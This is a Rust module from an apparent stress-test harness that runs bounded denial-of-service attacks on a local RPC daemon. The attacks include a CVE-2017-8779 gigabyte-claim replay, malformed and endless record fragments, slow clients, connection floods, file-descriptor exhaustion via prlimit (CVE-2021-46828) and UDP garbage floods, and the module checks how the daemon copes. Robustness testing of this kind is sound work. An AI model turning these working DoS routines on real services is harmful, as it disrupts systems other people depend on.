//! The attacks, each bounded in count and in time, each reporting what it
//! sent and what the daemon did with it ([`Outcome`]).

use std::collections::BTreeMap;
use std::io::{self, Read, Write};
use std::net::{Shutdown, TcpStream, UdpSocket};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use super::Target;
use super::wire::{self, GIGABYTE, LAST, Lcg, Xdr};

/// How long to give the daemon to act on what was sent before looking
/// at which connections it closed.
const SETTLE: Duration = Duration::from_millis(300);
/// Idle connections opened past the connection limit.
const PAST_THE_LIMIT: usize = 100;

/// One attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// CVE-2017-8779 replayed: calls whose strings, opaques and arrays
    /// (credentials, AUTH_SYS groups, procedure arguments) claim about a
    /// gigabyte, over UDP and TCP.
    GigabyteClaims,
    /// Connections sending random bytes.
    GarbageRecords,
    /// Records cut short (the connection then closed or left hanging),
    /// calls cut short inside whole records and datagrams.
    TruncatedRecords,
    /// Record marks announcing fragments of 1-2 GiB or just past the
    /// daemon's record limit, followed by data.
    HugeFragmentMarks,
    /// Streams of non-final fragments that never end: 1-byte and
    /// 1000-byte ones (which grow the record), and empty ones (which do
    /// not) ended by a NULL call.
    EndlessFragments,
    /// Many clients sending a call one byte per 100 ms.
    SlowClients,
    /// More idle connections than the daemon's connection limit.
    IdleConnections,
    /// More idle connections than the daemon's open-files limit, lowered
    /// with `prlimit` to what it has open plus 64 (or started that low,
    /// see [`with_open_files_limit`]): CVE-2021-46828, where idle
    /// connections exhausted the descriptors and the loop spun.
    FdExhaustion,
    /// A flood of garbage datagrams, some with valid headers.
    UdpGarbage,
}

impl Attack {
    /// Every attack, in the order of the figures.
    pub const ALL: [Attack; 9] = [
        Attack::GigabyteClaims,
        Attack::GarbageRecords,
        Attack::TruncatedRecords,
        Attack::HugeFragmentMarks,
        Attack::EndlessFragments,
        Attack::SlowClients,
        Attack::IdleConnections,
        Attack::FdExhaustion,
        Attack::UdpGarbage,
    ];

    /// Its name in the figures.
    pub fn name(self) -> &'static str {
        match self {
            Attack::GigabyteClaims => "gigabyte_claims",
            Attack::GarbageRecords => "garbage_records",
            Attack::TruncatedRecords => "truncated_records",
            Attack::HugeFragmentMarks => "huge_fragment_marks",
            Attack::EndlessFragments => "endless_fragments",
            Attack::SlowClients => "slow_clients",
            Attack::IdleConnections => "idle_connections",
            Attack::FdExhaustion => "fd_exhaustion",
            Attack::UdpGarbage => "udp_garbage",
        }
    }

    /// True when the attack applies to `target` (UDP floods need UDP).
    pub fn applies_to(self, target: &Target) -> bool {
        self != Attack::UdpGarbage || target.good.udp.is_some()
    }

    /// A flood may make the good client's datagrams be dropped (by the
    /// kernel, as UDP may): then only its TCP calls must succeed during
    /// the attack.
    pub fn drops_datagrams(self) -> bool {
        matches!(self, Attack::UdpGarbage | Attack::GigabyteClaims)
    }

    /// Runs the attack against `target`.
    pub fn run(self, target: &Target) -> Outcome {
        match self {
            Attack::GigabyteClaims => gigabyte_claims(target, 2000, secs(3.0)),
            Attack::GarbageRecords => garbage_records(target, 300, secs(3.0)),
            Attack::TruncatedRecords => truncated_records(target, 300, secs(3.0)),
            Attack::HugeFragmentMarks => huge_fragment_marks(target, 120, secs(3.0)),
            Attack::EndlessFragments => endless_fragments(target, 64 << 20, secs(1.5)),
            Attack::SlowClients => slow_clients(target, 100, secs(6.0)),
            Attack::IdleConnections => {
                idle_connections(target, target.max_connections + PAST_THE_LIMIT, secs(5.0))
            }
            Attack::FdExhaustion => fd_exhaustion(target, 300, secs(5.0)),
            Attack::UdpGarbage => udp_garbage(target, 20_000, secs(2.0)),
        }
    }
}

fn secs(s: f64) -> Duration {
    Duration::from_secs_f64(s)
}

/// What an attack did.
#[derive(Debug, Clone, Default)]
pub struct Outcome {
    /// Messages, connections or datagrams sent (what the attack counts).
    pub sent: u64,
    /// Further figures, `key=value` in the FIGURE line.
    pub notes: Vec<(&'static str, String)>,
    /// What our daemons must have done and this one did not (closing a
    /// connection past the record limit, answering a slow client...):
    /// failures for ours, figures for the system rpcbind.
    pub misbehaved: Vec<String>,
}

impl Outcome {
    fn note(&mut self, key: &'static str, value: impl ToString) {
        self.notes.push((key, value.to_string()));
    }

    fn must(&mut self, ok: bool, what: impl FnOnce() -> String) {
        if !ok {
            self.misbehaved.push(what());
        }
    }
}

/// Counts of reply kinds, rendered `kind:count,kind:count`.
#[derive(Debug, Default)]
struct Kinds(BTreeMap<&'static str, u64>);

impl Kinds {
    fn add(&mut self, kind: &'static str) {
        *self.0.entry(kind).or_default() += 1;
    }

    fn total(&self) -> u64 {
        self.0.values().sum()
    }

    fn render(&self) -> String {
        if self.0.is_empty() {
            return "none".to_owned();
        }
        self.0.iter().map(|(k, n)| format!("{k}:{n}")).collect::<Vec<_>>().join(",")
    }
}

/// Reads and classifies datagrams on `socket` until `stop`.
fn drain_datagrams(socket: UdpSocket, stop: Arc<AtomicBool>) -> JoinHandle<Kinds> {
    std::thread::spawn(move || {
        let mut kinds = Kinds::default();
        let mut buf = vec![0; 65_536];
        let _ = socket.set_read_timeout(Some(Duration::from_millis(50)));
        while !stop.load(Ordering::Relaxed) {
            if let Ok(n) = socket.recv(&mut buf) {
                kinds.add(wire::reply_kind(&buf[..n]));
            }
        }
        // What is already queued.
        let _ = socket.set_nonblocking(true);
        while let Ok(n) = socket.recv(&mut buf) {
            kinds.add(wire::reply_kind(&buf[..n]));
        }
        kinds
    })
}

/// A TCP connection that one kind of call is sent on, one at a time,
/// each followed by a NULL call whose reply marks that the daemon has read
/// it (so that silence needs no timeout); replies are counted by kind
/// whenever they come (a call run by a worker may be answered after the
/// NULL). Opened again when the daemon closes it.
struct Exchanger {
    addr: std::net::SocketAddr,
    prog: u32,
    vers: u32,
    stream: Option<TcpStream>,
    opened: u64,
    sent: u64,
    marker: u32,
    replies: Kinds,
}

impl Exchanger {
    fn new(t: &Target) -> Exchanger {
        let (addr, prog, vers) = (t.good.tcp, t.good.prog, t.good.vers);
        let (opened, sent, replies) = (0, 0, Kinds::default());
        Exchanger { addr, prog, vers, stream: None, opened, sent, marker: 0x3a3a_0000, replies }
    }

    /// Sends `message`, then waits for the marker's answer.
    fn exchange(&mut self, message: &[u8]) {
        if self.stream.is_none() {
            let Some(s) = TcpStream::connect(self.addr).ok() else { return };
            let _ = s.set_write_timeout(Some(Duration::from_secs(1)));
            let _ = s.set_read_timeout(Some(Duration::from_secs(1)));
            self.stream = Some(s);
            self.opened += 1;
        }
        let Some(s) = self.stream.as_mut() else { return };
        self.marker += 1;
        self.sent += 1;
        let marker = wire::plain_call(self.marker, self.prog, self.vers, 0, &[]);
        if s.write_all(&[wire::record(message), wire::record(&marker)].concat()).is_ok() {
            while let Ok(reply) = wire::read_record(s, 1 << 20) {
                if wire::word(&reply, 0) == Some(self.marker) {
                    return;
                }
                self.replies.add(wire::reply_kind(&reply));
            }
        }
        self.stream = None;
    }

    /// Ends the connection, collecting the replies still to come: the
    /// replies by kind, with the calls never answered as `unanswered`.
    fn finish(mut self) -> (Kinds, u64) {
        if let Some(mut s) = self.stream.take() {
            let _ = s.shutdown(Shutdown::Write);
            let _ = s.set_read_timeout(Some(Duration::from_millis(500)));
            while let Ok(reply) = wire::read_record(&mut s, 1 << 20) {
                if wire::word(&reply, 0).is_some_and(|x| x & 0xffff_0000 != 0x3a3a_0000) {
                    self.replies.add(wire::reply_kind(&reply));
                }
            }
        }
        let unanswered = self.sent.saturating_sub(self.replies.total());
        if unanswered > 0 {
            *self.replies.0.entry("unanswered").or_default() += unanswered;
        }
        (self.replies, self.opened)
    }
}

/// CVE-2017-8779: every call claims a gigabyte somewhere.
fn gigabyte_claims(t: &Target, count: usize, limit: Duration) -> Outcome {
    let vers = t.good.vers;
    let mut messages: Vec<Vec<u8>> = wire::auth_claims()
        .iter()
        .enumerate()
        .map(|(i, auth)| wire::call(0xb0b0_0000 + i as u32, t.good.prog, vers, 0, auth, &[]))
        .collect();
    for (i, claim) in t.claims.iter().enumerate() {
        let xid = 0xb0b1_0000 + i as u32;
        messages.push(wire::plain_call(xid, t.good.prog, claim.vers, claim.proc_num, &claim.args));
    }
    let stop = Arc::new(AtomicBool::new(false));
    let udp = t.good.udp.and_then(|to| {
        let socket = UdpSocket::bind(("127.0.0.1", 0)).ok()?;
        socket.connect(to).ok()?;
        let reader = drain_datagrams(socket.try_clone().ok()?, Arc::clone(&stop));
        Some((socket, reader))
    });
    // One connection per kind of call over TCP: one that closes the
    // connection takes no other's answer with it.
    let mut tcp: Vec<Exchanger> = messages.iter().map(|_| Exchanger::new(t)).collect();
    let started = Instant::now();
    let mut sent = 0u64;
    for i in 0..count {
        if started.elapsed() > limit {
            break;
        }
        let kind = i % messages.len();
        if let Some((socket, _)) = &udp {
            let _ = socket.send(&messages[kind]);
            sent += 1;
        }
        // Every other round over TCP too: each call waits to be read.
        if (i / messages.len()) % 2 == 0 {
            tcp[kind].exchange(&messages[kind]);
            sent += 1;
        } else {
            // Leave the daemon's socket buffer room for the good client.
            std::thread::sleep(Duration::from_micros(200));
        }
    }
    let (mut tcp_kinds, mut opened) = (Kinds::default(), 0);
    for exchanger in tcp {
        let (kinds, n) = exchanger.finish();
        opened += n;
        for (k, n) in kinds.0 {
            *tcp_kinds.0.entry(k).or_default() += n;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let udp_kinds = udp.map(|(_, reader)| reader.join().unwrap_or_default()).unwrap_or_default();
    let mut out = Outcome { sent, ..Outcome::default() };
    out.note("claimed_gib", sent);
    out.note("kinds", messages.len());
    out.note("tcp_replies", tcp_kinds.render());
    out.note("tcp_connections", opened);
    out.note("udp_replies", udp_kinds.render());
    out
}

/// What became of attack connections once the daemon had time to act.
#[derive(Debug, Default)]
struct Fates {
    /// The daemon closed (or reset) them.
    closed: usize,
    /// The daemon sent something (a reply).
    answered: usize,
    /// Still open and silent.
    open: usize,
}

fn fates(streams: &[TcpStream]) -> Fates {
    let mut f = Fates::default();
    let mut buf = [0u8; 4096];
    for s in streams {
        let _ = s.set_nonblocking(true);
        let mut got = false;
        let fate = loop {
            match (&*s).read(&mut buf) {
                Ok(0) => break "closed",
                Ok(_) => got = true,
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => break "open",
                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                Err(_) => break "closed",
            }
        };
        if got {
            f.answered += 1;
        }
        match fate {
            "closed" => f.closed += 1,
            _ => f.open += 1,
        }
    }
    f
}

fn note_fates(out: &mut Outcome, f: &Fates) {
    out.note("closed_by_daemon", f.closed);
    out.note("answered", f.answered);
    out.note("left_open", f.open);
}

/// Connects to `t` over TCP, within a second.
fn connect(t: &Target) -> Option<TcpStream> {
    let s = TcpStream::connect_timeout(&t.good.tcp, Duration::from_secs(1)).ok()?;
    let _ = s.set_write_timeout(Some(Duration::from_millis(500)));
    Some(s)
}

/// Random bytes on `count` connections.
fn garbage_records(t: &Target, count: usize, limit: Duration) -> Outcome {
    let mut rng = Lcg(0x6a7b);
    let started = Instant::now();
    let mut streams = Vec::new();
    for i in 0..count {
        if started.elapsed() > limit {
            break;
        }
        let Some(mut s) = connect(t) else { continue };
        let len = 1 + rng.below(2048);
        let mut junk = rng.bytes(len);
        match i % 3 {
            // A last fragment whose length is what follows: garbage in a
            // whole record.
            0 if len > 4 => junk[..4].copy_from_slice(&(LAST | (len as u32 - 4)).to_be_bytes()),
            // A small last fragment: a record, then more garbage.
            1 if len > 4 => junk[..4].copy_from_slice(&(LAST | rng.below(64) as u32).to_be_bytes()),
            // Random marks.
            _ => {}
        }
        let _ = s.write_all(&junk);
        streams.push(s);
    }
    std::thread::sleep(SETTLE);
    let mut out = Outcome { sent: streams.len() as u64, ..Outcome::default() };
    note_fates(&mut out, &fates(&streams));
    out
}

/// Records and calls cut short.
fn truncated_records(t: &Target, count: usize, limit: Duration) -> Outcome {
    let null = wire::plain_call(0x7a11, t.good.prog, t.good.vers, 0, &[]);
    let real = wire::plain_call(0x7a12, t.good.prog, t.good.vers, t.good.proc_num, &t.good.args);
    let started = Instant::now();
    let (mut half_closed, mut hanging, mut short_calls) = (Vec::new(), Vec::new(), Vec::new());
    for i in 0..count {
        if started.elapsed() > limit {
            break;
        }
        let Some(mut s) = connect(t) else { continue };
        match i % 4 {
            // The mark announces 100 bytes, 50 come, then end of stream.
            0 => {
                let _ = s.write_all(&Xdr::new().u32(LAST | 100).raw(&[0x55; 50]).bytes());
                let _ = s.shutdown(Shutdown::Write);
                half_closed.push(s);
            }
            // The same, the connection left hanging.
            1 => {
                let _ = s.write_all(&Xdr::new().u32(LAST | 100).raw(&null).bytes());
                hanging.push(s);
            }
            // A whole record holding a call header cut short.
            2 => {
                let cut = (i / 4) % null.len();
                let _ = s.write_all(&wire::record(&null[..cut]));
                short_calls.push(s);
            }
            // A whole record holding the real call with its arguments cut.
            _ => {
                let cut = 40 + (i / 4) % (real.len() - 40).max(1);
                let _ = s.write_all(&wire::record(&real[..cut.min(real.len())]));
                short_calls.push(s);
            }
        }
    }
    let mut datagrams = 0;
    if let Some(to) = t.good.udp {
        if let Ok(socket) = UdpSocket::bind(("127.0.0.1", 0)) {
            for message in [&null, &real] {
                for cut in 0..message.len() {
                    let _ = socket.send_to(&message[..cut], to);
                    datagrams += 1;
                }
            }
        }
    }
    std::thread::sleep(SETTLE);
    let sent = (half_closed.len() + hanging.len() + short_calls.len()) as u64;
    let mut out = Outcome { sent: sent + datagrams, ..Outcome::default() };
    let half = fates(&half_closed);
    out.note("half_closed_closed_by_daemon", half.closed);
    let hang = fates(&hanging);
    out.note("hanging_left_open", hang.open);
    let short = fates(&short_calls);
    out.note("short_calls_answered", short.answered);
    out.note("short_calls_closed", short.closed);
    out.note("datagrams", datagrams);
    out.must(half.open == 0, || {
        format!("{} connections ended mid-record were left open", half.open)
    });
    out
}

/// Marks announcing huge fragments.
fn huge_fragment_marks(t: &Target, count: usize, limit: Duration) -> Outcome {
    let over = (t.max_record + 1) as u32;
    let marks = [0xffff_ffff, 0x7fff_ffff, LAST | GIGABYTE, GIGABYTE, LAST | over, over];
    let started = Instant::now();
    let mut streams = Vec::new();
    for i in 0..count {
        if started.elapsed() > limit {
            break;
        }
        let Some(mut s) = connect(t) else { continue };
        let _ = s.write_all(&Xdr::new().u32(marks[i % marks.len()]).raw(&[0; 4096]).bytes());
        streams.push(s);
    }
    std::thread::sleep(SETTLE);
    let mut out = Outcome { sent: streams.len() as u64, ..Outcome::default() };
    let f = fates(&streams);
    note_fates(&mut out, &f);
    out.must(f.open == 0, || {
        format!("{} connections announcing records past the limit were left open", f.open)
    });
    out
}

/// Non-final fragments that never end, on three connections at once: 1-
/// and 1000-byte ones (the record grows: the daemon must close the
/// connection at its record limit) and empty ones (the record does not
/// grow), ended after the time allowed by a NULL call as the last
/// fragment, which must be answered; each at 16 MiB/s.
fn endless_fragments(t: &Target, max_bytes: usize, limit: Duration) -> Outcome {
    let null = wire::plain_call(0xe4d, t.good.prog, t.good.vers, 0, &[]);
    // name, one fragment (written many times per write), ended by a call
    let kinds: [(&str, Vec<u8>, bool); 3] = [
        ("one_byte", vec![0, 0, 0, 1, 0], false),
        ("kilobyte", Xdr::new().u32(1000).raw(&[0; 1000]).bytes(), false),
        ("empty_then_call", vec![0; 4], true),
    ];
    let threads: Vec<_> = kinds
        .into_iter()
        .map(|(name, fragment, then_call)| {
            let addr = t.good.tcp;
            let null = null.clone();
            std::thread::spawn(move || {
                let Ok(mut s) = TcpStream::connect(addr) else {
                    return (name, 0, "refused".to_owned());
                };
                let (written, stopped) = stream_fragments(&mut s, &fragment, max_bytes, limit);
                let fate = if then_call && stopped != "closed" {
                    // The current fragment finished, then the call as the
                    // last one.
                    let rest = (fragment.len() - written % fragment.len()) % fragment.len();
                    let _ = s.write_all(&fragment[fragment.len() - rest..]);
                    let _ = s.write_all(&wire::record(&null));
                    let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
                    match wire::read_record(&mut s, 1 << 20) {
                        Ok(reply) => format!("answered_{}", wire::reply_kind(&reply)),
                        Err(_) => "unanswered".to_owned(),
                    }
                } else if closed_within(&mut s, Duration::from_secs(3)) {
                    "closed".to_owned()
                } else {
                    format!("open_{stopped}")
                };
                (name, written, fate)
            })
        })
        .collect();
    let mut out = Outcome::default();
    for thread in threads {
        let Ok((name, written, fate)) = thread.join() else { continue };
        out.sent += written as u64;
        out.notes.push((name, format!("{}KiB:{fate}", written >> 10)));
        match name {
            "one_byte" | "kilobyte" => out.must(fate == "closed", || {
                format!("{name} fragments past the record limit: connection {fate}")
            }),
            _ => out.must(fate == "answered_success", || {
                format!("a call after {}KiB of empty fragments: {fate}", written >> 10)
            }),
        }
    }
    out
}

/// How fast the endless fragments are sent: 16 MiB/s per connection,
/// more than the daemon's record limits many times over each second,
/// without making the attack a bandwidth flood of the I/O thread.
const FRAGMENT_RATE: f64 = 16.0 * 1024.0 * 1024.0;

/// Writes `fragment` again and again on `s` (in 64 KiB writes, at
/// [`FRAGMENT_RATE`]) until `limit` passes, `max_bytes` are written or the
/// daemon closes the connection: the bytes written, and why it stopped
/// (`time`, `bytes`, `closed`).
fn stream_fragments(
    s: &mut TcpStream,
    fragment: &[u8],
    max_bytes: usize,
    limit: Duration,
) -> (usize, &'static str) {
    let _ = s.set_write_timeout(Some(Duration::from_millis(200)));
    let chunk: Vec<u8> = fragment.repeat((64 << 10) / fragment.len());
    let started = Instant::now();
    let (mut written, mut at) = (0usize, 0usize);
    while started.elapsed() < limit {
        if written >= max_bytes {
            return (written, "bytes");
        }
        match s.write(&chunk[at..]) {
            Ok(n) => {
                written += n;
                at = (at + n) % chunk.len();
            }
            Err(e) if matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {}
            Err(_) => return (written, "closed"),
        }
        let due = started + Duration::from_secs_f64(written as f64 / FRAGMENT_RATE);
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
    }
    (written, "time")
}

/// True when the daemon closes (or resets) `s` within `wait`, whatever
/// it sends first.
fn closed_within(s: &mut TcpStream, wait: Duration) -> bool {
    let deadline = Instant::now() + wait;
    let mut buf = [0u8; 4096];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() || s.set_read_timeout(Some(left)).is_err() {
            return false;
        }
        match s.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(e) if matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {
                return false;
            }
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(_) => return true,
        }
    }
}

/// Clients sending a NULL call one byte per 100 ms.
fn slow_clients(t: &Target, count: usize, limit: Duration) -> Outcome {
    let started = Instant::now();
    let mut streams: Vec<(TcpStream, Vec<u8>)> = Vec::new();
    for i in 0..count {
        let Some(s) = connect(t) else { continue };
        let _ = s.set_nodelay(true);
        let xid = 0x5100_0000 + i as u32;
        streams.push((s, wire::record(&wire::plain_call(xid, t.good.prog, t.good.vers, 0, &[]))));
    }
    let len = streams.first().map_or(0, |(_, r)| r.len());
    let mut sent_bytes = 0u64;
    for byte in 0..len {
        if started.elapsed() > limit {
            break;
        }
        let tick = Instant::now() + Duration::from_millis(100);
        for (s, record) in &mut streams {
            if s.write_all(&record[byte..=byte]).is_ok() {
                sent_bytes += 1;
            }
        }
        std::thread::sleep(tick.saturating_duration_since(Instant::now()));
    }
    let mut answered = 0;
    for (s, record) in &mut streams {
        let _ = s.set_read_timeout(Some(Duration::from_millis(1000)));
        let xid = wire::word(&record[4..], 0).unwrap_or(0);
        if wire::read_record(s, 1 << 20).is_ok_and(|r| wire::results(&r, xid).is_ok()) {
            answered += 1;
        }
    }
    let mut out = Outcome { sent: streams.len() as u64, ..Outcome::default() };
    out.note("bytes", sent_bytes);
    out.note("slow_answered", answered);
    out.must(answered == streams.len(), || {
        format!("{} of {} slow clients were not answered", streams.len() - answered, streams.len())
    });
    out
}

/// Idle connections past the connection limit, held while the good client
/// calls.
fn idle_connections(t: &Target, count: usize, limit: Duration) -> Outcome {
    let started = Instant::now();
    let mut streams = Vec::new();
    let mut refused = 0;
    for _ in 0..count {
        if started.elapsed() > limit {
            break;
        }
        match connect(t) {
            Some(s) => streams.push(s),
            None => refused += 1,
        }
    }
    std::thread::sleep(Duration::from_secs(1));
    let mut out = Outcome { sent: streams.len() as u64, ..Outcome::default() };
    out.note("refused", refused);
    let f = fates(&streams);
    note_fates(&mut out, &f);
    out.must(f.open <= t.max_connections, || {
        format!("{} idle connections held, past the limit of {}", f.open, t.max_connections)
    });
    out
}

/// The daemon's open files: the entries of `/proc/<pid>/fd`.
fn open_files(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count())
}

/// CPU time used by process `pid` so far, in ms (utime + stime, in
/// USER_HZ ticks, which are 1/100 s on Linux's ABI).
pub fn cpu_ms(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    let fields: Vec<&str> = stat
        .rsplit_once(')')
        .map(|(_, rest)| rest.split_whitespace().collect())
        .unwrap_or_default();
    // After the command: state is field 3, utime 14 and stime 15.
    let tick = |i: usize| fields.get(i - 3).and_then(|f| f.parse::<u64>().ok()).unwrap_or(0);
    (tick(14) + tick(15)) * 10
}

/// Open files the process may have (`Max open files` of
/// `/proc/<pid>/limits`): the soft limit and the hard one.
pub fn open_files_limit(pid: u32) -> Option<(u64, u64)> {
    let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).ok()?;
    let line = limits.lines().find(|l| l.starts_with("Max open files"))?;
    let mut numbers = line["Max open files".len()..].split_whitespace().map(str::parse);
    Some((numbers.next()?.ok()?, numbers.next()?.ok()?))
}

/// Runs `f` with this process's soft open-files limit lowered to `soft`,
/// then raises it back: a daemon started by `f` inherits the low limit.
/// For a daemon whose limit cannot be lowered once it runs (the system
/// rpcbind switches to its own user, and lowering another user's limit
/// needs CAP_SYS_RESOURCE).
pub fn with_open_files_limit<T>(soft: u64, f: impl FnOnce() -> T) -> T {
    let me = std::process::id().to_string();
    let set = |soft: u64, hard: u64| {
        let ok = Command::new("prlimit")
            .args(["--pid", &me, &format!("--nofile={soft}:{hard}")])
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "prlimit cannot change this process's open-files limit");
    };
    let (old, hard) = open_files_limit(std::process::id()).expect("this process's limits");
    set(soft, hard);
    let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(f));
    set(old, hard);
    result.unwrap_or_else(|panic| std::panic::resume_unwind(panic))
}

/// Idle connections past a lowered open-files limit: lowered with
/// `prlimit` to what the daemon has open plus 64, unless it was started
/// with a limit as low (see [`with_open_files_limit`]).
fn fd_exhaustion(t: &Target, count: usize, limit: Duration) -> Outcome {
    let wanted = open_files(t.pid) as u64 + 64;
    let lowered = match open_files_limit(t.pid) {
        Some((soft, _)) if soft <= wanted + 64 => true,
        _ => Command::new("prlimit")
            .args(["--pid", &t.pid.to_string(), &format!("--nofile={wanted}:{wanted}")])
            .status()
            .is_ok_and(|s| s.success()),
    };
    let fd_limit = open_files_limit(t.pid).map_or(0, |(soft, _)| soft);
    let mut out = idle_connections(t, count.max(fd_limit as usize + PAST_THE_LIMIT), limit);
    // Held a second more, the good client still calling: a loop that spins
    // on a failing accept shows here.
    let cpu = cpu_ms(t.pid);
    std::thread::sleep(Duration::from_secs(1));
    let held_cpu = cpu_ms(t.pid).saturating_sub(cpu);
    out.notes.insert(0, ("fd_limit", fd_limit.to_string()));
    out.note("held_cpu_ms_per_s", held_cpu);
    out.misbehaved.retain(|m| !m.contains("past the limit"));
    out.must(lowered, || "prlimit could not lower the open-files limit".to_owned());
    out.must(held_cpu < 500, || format!("{held_cpu} ms of CPU in a second of idle connections"));
    out
}

/// A flood of garbage datagrams.
fn udp_garbage(t: &Target, count: usize, limit: Duration) -> Outcome {
    let Some(to) = t.good.udp else { return Outcome::default() };
    let Ok(socket) = UdpSocket::bind(("127.0.0.1", 0)) else { return Outcome::default() };
    let _ = socket.connect(to);
    let stop = Arc::new(AtomicBool::new(false));
    let reader = socket.try_clone().ok().map(|s| drain_datagrams(s, Arc::clone(&stop)));
    let mut rng = Lcg(0x0d9);
    let started = Instant::now();
    let mut sent = 0u64;
    let mut bytes = 0u64;
    for i in 0..count {
        if started.elapsed() > limit {
            break;
        }
        let datagram = match i % 10 {
            // A valid header, random procedure, random arguments.
            0..=2 => {
                let proc_num = rng.below(16) as u32;
                let args = rng.some_bytes(0, 200);
                wire::plain_call(i as u32, t.good.prog, t.good.vers, proc_num, &args)
            }
            // A large one now and then.
            3 if i % 100 == 3 => rng.some_bytes(8000, 57_000),
            _ => rng.some_bytes(0, 600),
        };
        if socket.send(&datagram).is_ok() {
            sent += 1;
            bytes += datagram.len() as u64;
        }
    }
    let elapsed = started.elapsed();
    stop.store(true, Ordering::Relaxed);
    let kinds = reader.map(|r| r.join().unwrap_or_default()).unwrap_or_default();
    let mut out = Outcome { sent, ..Outcome::default() };
    out.note("rate_per_s", (sent as f64 / elapsed.as_secs_f64().max(1e-3)) as u64);
    out.note("mib", bytes >> 20);
    out.note("replies", kinds.total());
    out.note("reply_kinds", kinds.render());
    out
}
